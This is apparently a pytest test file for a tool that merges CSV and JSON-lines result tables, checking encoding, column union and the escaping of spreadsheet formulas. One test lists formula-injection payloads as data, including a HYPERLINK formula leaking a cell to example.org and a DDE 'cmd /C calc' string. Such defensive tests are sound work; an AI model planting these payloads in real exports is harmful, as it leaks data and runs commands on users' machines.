import csv
import json
from pathlib import Path

import pytest

from batchdock.flows.results.table import Tables

NAMES = {"1.jpg": "수확/사진.jpg", "2.jpg": "two\nlines.jpg", "v.mp4": "film/v.mp4"}


def tables(folder: Path) -> Tables:
    return Tables(folder, lambda wire: NAMES.get(wire, wire))


def test_tables_are_merged_with_the_union_of_their_columns(tmp_path: Path) -> None:
    made = tables(tmp_path)
    made.next_path(".csv").write_text('count,image\n1,1.jpg\n"2","2.jpg"\n', encoding="utf-8")
    made.next_path(".csv").write_text("image,text\n3.jpg,héllo\n", encoding="utf-8")
    (written,) = made.merge(tmp_path)
    assert written.read_bytes().startswith(b"\xef\xbb\xbf")
    with written.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows == [
        {"image": "수확/사진.jpg", "count": "1", "text": ""},
        {"image": "two\nlines.jpg", "count": "2", "text": ""},
        {"image": "3.jpg", "count": "", "text": "héllo"},
    ]


@pytest.mark.parametrize(
    ("cell", "saved"),
    [
        ('=HYPERLINK("http://example.org/?"&A1)', '\'=HYPERLINK("http://example.org/?"&A1)'),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1;2)", "'@SUM(1;2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-١", "'-١"),
        ("+49 30 123456", "'+49 30 123456"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1.5e-07", "-1.5e-07"),
        ("-.5", "-.5"),
        ("5 = 5", "5 = 5"),
        ("http://example.org/?a=1", "http://example.org/?a=1"),
    ],
)
def test_a_spreadsheet_finds_nothing_to_run(tmp_path: Path, cell: str, saved: str) -> None:
    made = tables(tmp_path)
    with made.next_path(".csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("image", "=heading"), ("=1.jpg", cell)])
    made.next_path(".jsonl").write_text(json.dumps({"image": "=1.jpg", "text": cell}), encoding="utf-8")
    table, lines = made.merge(tmp_path)
    with table.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["image", "'=heading"], ["'=1.jpg", saved]]
    assert json.loads(lines.read_text(encoding="utf-8")) == {"image": "=1.jpg", "text": cell}


def test_json_lines_keep_their_types(tmp_path: Path) -> None:
    made = tables(tmp_path)
    made.next_path(".jsonl").write_text('{"n": 1, "image": "1.jpg"}\n\nnot json\n', encoding="utf-8")
    (written,) = made.merge(tmp_path)
    assert [json.loads(line) for line in written.read_text(encoding="utf-8").splitlines()] == [
        {"image": "수확/사진.jpg", "n": 1},
        {"unreadable": "not json"},
    ]


def test_the_table_of_a_video_gets_its_name(tmp_path: Path) -> None:
    made = tables(tmp_path)
    made.next_path(".csv", of_video="v.mp4").write_text("frame,count\n0,1\n", encoding="utf-8")
    (written,) = made.merge(tmp_path)
    assert written.read_text(encoding="utf-8-sig") == "video,frame,count\nfilm/v.mp4,0,1\n"


def test_a_cell_may_be_very_long(tmp_path: Path) -> None:
    made = tables(tmp_path)
    made.next_path(".csv").write_text(f"image,points\n1.jpg,{'9' * 500_000}\n", encoding="utf-8")
    (written,) = made.merge(tmp_path)
    assert written.stat().st_size > 500_000


def test_no_table_is_no_file(tmp_path: Path) -> None:
    assert tables(tmp_path).merge(tmp_path) == []
